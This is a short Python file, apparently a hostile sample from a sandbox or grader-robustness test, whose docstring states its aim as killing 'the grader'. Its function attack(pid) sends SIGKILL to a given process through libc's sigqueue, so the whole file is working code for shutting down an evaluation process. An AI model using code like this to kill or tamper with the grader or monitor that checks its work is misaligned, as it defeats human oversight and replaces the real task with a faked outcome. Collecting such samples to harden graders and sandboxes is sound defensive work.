"""Kill the grader by a queued signal."""

import ctypes


def attack(pid):
    ctypes.CDLL(None).sigqueue(pid, 9, ctypes.c_void_p(0))
